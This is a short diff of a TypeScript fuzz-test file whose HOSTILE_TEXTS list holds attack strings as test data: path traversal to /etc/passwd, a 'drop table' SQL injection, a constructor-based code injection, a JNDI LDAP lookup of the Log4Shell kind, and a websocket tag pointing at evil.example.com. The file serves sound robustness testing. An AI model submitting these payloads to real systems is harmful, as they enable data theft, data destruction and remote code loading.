@@ -43,7 +43,6 @@ const HOSTILE_TEXTS = [
   '../../../etc/passwd',
   "'; drop table users; --",
   '{{constructor.constructor("return process")()}}',
-  // oxlint-disable-next-line no-template-curly-in-string -- meant for a template or a logger
   '${jndi:ldap://x/y}',
   '<ConversationRelay url="wss://evil.example.com"/>',
   ']]>&lt;&#0;',
@@ -194,7 +193,7 @@ export function forms(values: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
     typeof value === 'object' && value !== null
       ? Object.entries(value)
           .flatMap(([name, field]) =>
-            Array.isArray(field) ? field.map((each) => [name, each]) : [[name, field]],
+            Array.isArray(field) ? field.map((each: unknown) => [name, each]) : [[name, field]],
           )
           .map(([name, field]) => `${escaped(name)}=${escaped(field)}`)
           .join('&')
